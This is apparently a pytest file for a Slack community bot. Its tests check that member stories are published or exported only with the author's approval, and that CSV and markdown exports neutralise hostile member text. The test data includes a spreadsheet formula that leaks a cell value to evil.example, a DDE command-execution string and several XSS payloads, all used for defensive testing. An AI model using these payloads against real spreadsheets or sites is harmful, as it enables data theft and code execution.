"""The one gate to the movement, as people meet it: only an author's approval of a story's exact
text lets it out; a tip keeps its story's consent for ever; what leaves Slack (exports, blog
drafts) is safe to open in a spreadsheet and to paste into a blog."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import select

from bot import cli
from bot.builders.ids import KnowledgeIds, MembershipIds
from bot.config import Settings
from bot.models import Community, Consent, Story, Tip
from tests.conftest import CONVENOR, COP, MEMBER, MOVEMENT, OUTSIDER, make_settings
from tests.fakeslack import FakeSlack
from tests.harness import Kettle
from tests.scenario.test_journey_knowledge import blog_markdown
from tests.scenario.test_knowledge import (
    add_story,
    answer_callout,
    button,
    dm_click,
    propose_and_answer,
    texts,
)

Export = Callable[..., str]


@pytest.fixture
def settings(fake: FakeSlack, db_url: str, tmp_path: Path) -> Settings:
    return make_settings(fake, database_url=db_url, files_dir=tmp_path / "files")


@pytest.fixture
def export(monkeypatch: pytest.MonkeyPatch, db_url: str, tmp_path: Path) -> Export:
    """`kettle export` as the operator runs it, through the CLI's own entry point."""
    monkeypatch.setenv("DATABASE_URL", db_url)

    def run(fmt: str = "json", purpose: str = "sharing") -> str:
        out = tmp_path / f"export-{purpose}.{fmt}"
        assert cli.main(["export", "--format", fmt, "--for", purpose, "-o", str(out)]) == 0
        with out.open(encoding="utf-8", newline="") as written:  # keep a cell's own \r
            return written.read()

    return run


def movement_text(kettle: Kettle) -> str:
    return "".join(texts(m) for m in kettle.fake.messages(MOVEMENT))


def every_sharing_export(export: Export) -> str:
    return "".join(export(fmt) for fmt in ("json", "csv", "markdown"))


# -- 1. only the author's approval of the exact text lets a story out ---------------------------


def test_a_no_stands_when_the_story_is_proposed_again(kettle: Kettle, export: Export) -> None:
    """Amina says "not this time"; the convenor proposes again. Until she answers the new
    proposal, no digest, blog draft or export for sharing carries the story."""
    story_id = add_story(kettle, title="Rota rescue", consent=Consent.MOVEMENT_NAMED)
    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.DECLINE)
    before = len(kettle.fake.dm_messages(MEMBER))
    kettle.click(CONVENOR, KnowledgeIds.PROPOSE, value=str(story_id))
    assert len(kettle.fake.dm_messages(MEMBER)) == before + 1  # she is asked again

    reply = kettle.command(CONVENOR, "/cop", "digest movement")
    assert kettle.fake.messages(MOVEMENT) == []
    assert "approved" in json.dumps(kettle.fake.responses) or "approved" in reply.text
    assert "Rota rescue" not in blog_markdown(kettle)
    assert "Rota rescue" not in every_sharing_export(export)

    preview = kettle.fake.dm_messages(MEMBER)[-1]
    dm_click(kettle, MEMBER, KnowledgeIds.APPROVE, button(preview, KnowledgeIds.APPROVE)["value"],
             preview)  # fmt: skip
    kettle.command(CONVENOR, "/cop", "digest movement")
    assert "Stories from" in texts(kettle.fake.messages(MOVEMENT)[-1])
    assert "Rota rescue" in texts(kettle.fake.messages(MOVEMENT)[-1])
    assert "Rota rescue" in blog_markdown(kettle)
    assert "Rota rescue" in export("csv") and "Rota rescue" in export("markdown")


def test_a_story_changed_after_approval_needs_a_fresh_approval(
    kettle: Kettle, export: Export
) -> None:
    story_id = add_story(kettle, title="Winter market", body="We sold out by noon.")
    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
    assert "Winter market" in export("json")
    with kettle.db() as session:  # the text changes after the author said yes
        story = session.get(Story, story_id)
        assert story is not None
        story.body = "We sold out by noon, and Rohan's stall lost money."

    kettle.command(CONVENOR, "/cop", "digest movement")
    assert "Stories from" not in movement_text(kettle)
    assert "Winter market" not in blog_markdown(kettle)
    assert "Winter market" not in every_sharing_export(export)

    # The convenor sees it needs asking again, and the author is shown the new text.
    kettle.click(CONVENOR, KnowledgeIds.READ, value=str(story_id))
    view = kettle.fake.last_view()
    assert view is not None and KnowledgeIds.PROPOSE in str(view["blocks"])
    assert "needs their approval again" in str(view["blocks"])
    published = propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
    assert "lost money" in texts(published) or "lost money" in movement_text(kettle)
    kettle.command(CONVENOR, "/cop", "digest movement")
    assert "lost money" in texts(kettle.fake.messages(MOVEMENT)[-1])
    assert "lost money" in export("json")


def test_approving_an_old_preview_of_a_changed_story_posts_nothing(kettle: Kettle) -> None:
    story_id = add_story(kettle, title="Quiet win", body="The first version.")
    kettle.click(CONVENOR, KnowledgeIds.PROPOSE, value=str(story_id))
    preview = kettle.fake.dm_messages(MEMBER)[-1]
    with kettle.db() as session:
        story = session.get(Story, story_id)
        assert story is not None
        story.body = "A version she never saw."
    dm_click(kettle, MEMBER, KnowledgeIds.APPROVE, button(preview, KnowledgeIds.APPROVE)["value"],
             preview)  # fmt: skip
    assert kettle.fake.messages(MOVEMENT) == []
    assert "has changed since you were shown it" in json.dumps(kettle.fake.responses)


def test_a_callout_answer_goes_out_only_once_its_responder_approves(
    kettle: Kettle, export: Export
) -> None:
    answer_callout(
        kettle, "What helped your network grow?", "movement_named", "Tea before business"
    )
    with kettle.db() as session:
        story = session.scalar(select(Story).where(Story.title == "Tea before business"))
        assert story is not None
        story_id = story.id
    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
    kettle.command(CONVENOR, "/cop", "digest movement")
    assert len(kettle.fake.messages(MOVEMENT)) == 1  # the call-out alone
    assert "Tea before business" not in blog_markdown(kettle)
    assert "Tea before business" not in every_sharing_export(export)

    propose_and_answer(kettle, story_id, OUTSIDER, KnowledgeIds.APPROVE)
    kettle.command(CONVENOR, "/cop", "digest movement")
    assert "Tea before business" in texts(kettle.fake.messages(MOVEMENT)[-1])
    assert "Tea before business" in export("markdown")


def test_the_movement_digest_fallback_text_pings_no_one(kettle: Kettle) -> None:
    with kettle.db() as session:
        community = session.scalars(select(Community)).one()
        community.name = "Tea <!channel> club"
    story_id = add_story(kettle, title="Shared win")
    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
    kettle.command(CONVENOR, "/cop", "digest movement")
    digest = kettle.fake.messages(MOVEMENT)[-1]
    assert "Shared win" in texts(digest) and "<!channel>" not in str(digest["text"])


# -- 2. a tip keeps its story's consent for ever -----------------------------------------------


def make_tip(kettle: Kettle, story_id: int, text: str) -> None:
    kettle.click(CONVENOR, KnowledgeIds.TIP_BUTTON, value=str(story_id))
    view = kettle.fake.last_view()
    assert view is not None and view["callback_id"] == KnowledgeIds.TIP_MODAL
    kettle.submit(
        CONVENOR,
        view,
        {KnowledgeIds.TIP_TEXT: {"value": {"type": "plain_text_input", "value": text}}},
    )


def test_a_tip_from_a_cop_only_story_stays_in_the_cop_after_the_story_is_gone(
    kettle: Kettle,
) -> None:
    secret = add_story(kettle, title="Our wobble", consent=Consent.COP_ONLY)
    shared = add_story(kettle, title="Our win", consent=Consent.MOVEMENT_ANONYMOUS)
    make_tip(kettle, secret, "Name the wobble early")
    make_tip(kettle, shared, "Celebrate small wins")
    kettle.command(CONVENOR, "/cop", "tip Ask before you advise")  # the convenor's own line
    markdown = blog_markdown(kettle)
    assert "Name the wobble early" not in markdown
    assert "Celebrate small wins" in markdown and "Ask before you advise" in markdown

    kettle.click(MEMBER, MembershipIds.FORGET_DELETE_BUTTON, channel="D1")  # her stories go
    with kettle.db() as session:
        assert session.get(Story, secret) is None
        assert all(t.story_id is None for t in session.scalars(select(Tip)))
    markdown = blog_markdown(kettle)
    assert "Name the wobble early" not in markdown
    assert "Celebrate small wins" in markdown  # its story allowed it, and that stays true


def test_a_tip_keeps_its_authors_no_once_the_story_is_gone(kettle: Kettle) -> None:
    story_id = add_story(kettle, title="Funding hiccup", consent=Consent.MOVEMENT_NAMED)
    make_tip(kettle, story_id, "Read the bid twice")
    assert "Read the bid twice" in blog_markdown(kettle)
    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.DECLINE)
    assert "Read the bid twice" not in blog_markdown(kettle)
    kettle.click(MEMBER, MembershipIds.FORGET_DELETE_BUTTON, channel="D1")
    with kettle.db() as session:
        assert session.get(Story, story_id) is None
    assert "Read the bid twice" not in blog_markdown(kettle)


def test_a_tip_of_unknown_origin_stays_in_the_cop(kettle: Kettle) -> None:
    with kettle.db() as session:
        community = session.scalars(select(Community)).one()
        session.add(Tip(community_id=community.id, text="Where did this come from", created_by=""))
    assert "Where did this come from" not in blog_markdown(kettle)
    kettle.command(CONVENOR, "/cop", "tips")  # inside the CoP it is still a tip
    assert any("Where did this come from" in texts(m) for m in kettle.fake.messages(COP))


# -- 3. exports and blog drafts are safe to open and to paste ----------------------------------

NASTY_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
NASTY_BODY = (
    "# Not a heading\n"
    "> not a quote\n"
    "- not a list\n"
    "1. nor this\n"
    "<script>alert('x')</script> <img src=x onerror=alert(1)>\n"
    "[click me](javascript:alert(1)) ![pic](javascript:alert(2))\n"
    "[ref]: javascript:alert(3)\n"
    "    indented code\r# a heading after a carriage return\n"
    "+cmd|' /C calc'!A0"
)


def nasty_story(kettle: Kettle) -> int:
    story_id = add_story(
        kettle,
        title=NASTY_TITLE,
        body=NASTY_BODY,
        themes=["@SUM(1+1)", "-2+3"],
        consent=Consent.MOVEMENT_NAMED,
    )
    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
    return story_id


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_safe_markdown(markdown: str, *, headings: int, lists: int = 0) -> None:
    """Rendered as a blog would (CommonMark, raw HTML allowed, tables, strikethrough), member
    text makes no HTML, heading, quote, list, table, link or image of its own, and reads as told."""
    html = (
        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    )
    for bad in ("<script", "<img", "<a ", "<blockquote", "<ol", "<table", "<b>", "<pre", "<code"):
        assert bad not in html, (bad, html)
    assert len(re.findall(r"<h[1-6]>", html)) == headings, html
    assert html.count("<ul>") == lists, html
    assert "# Not a heading" in html and "&lt;script&gt;alert" in html
    assert "[click me](javascript:alert(1))" in html


def test_csv_and_markdown_exports_defuse_member_text(kettle: Kettle, export: Export) -> None:
    nasty_story(kettle)
    with kettle.db() as session:  # a body that is only a formula, and one led by a tab
        member_story = session.scalars(select(Story)).one()
        for title, body in (("Tab", "\t=1+1"), ("Carriage", "\r=1+1")):
            session.add(
                Story(
                    community_id=member_story.community_id,
                    author_id=member_story.author_id,
                    title=title,
                    body=body,
                    kind=member_story.kind,
                    consent=Consent.MOVEMENT_ANONYMOUS,
                    themes=[],
                )
            )
    for purpose in ("sharing", "backup"):
        rows = list(csv.reader(io.StringIO(export("csv", purpose))))
        cells = [cell for row in rows[1:] for cell in row]
        assert NASTY_TITLE not in cells and "'" + NASTY_TITLE in cells
        assert not [c for c in cells if c.startswith(FORMULA_START)], cells
        titles = 3 if purpose == "backup" else 1  # the export's heading, then one per story
        assert_safe_markdown(export("markdown", purpose), headings=1 + titles)
    backup = list(csv.DictReader(io.StringIO(export("csv", "backup"))))
    assert {r["body"] for r in backup if r["title"] in ("Tab", "Carriage")} == {
        "'\t=1+1",
        "'\r=1+1",
    }
    # JSON is data: the text stays exactly as told.
    assert NASTY_BODY in json.loads(export("json"))["library"][0]["body"]


def test_blog_draft_escapes_member_text(kettle: Kettle) -> None:
    story_id = nasty_story(kettle)
    make_tip(kettle, story_id, "<b>bold</b> [x](javascript:alert(1))")
    markdown = blog_markdown(kettle)
    assert_safe_markdown(markdown, headings=3, lists=1)  # title, story, tips; the tips list
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown
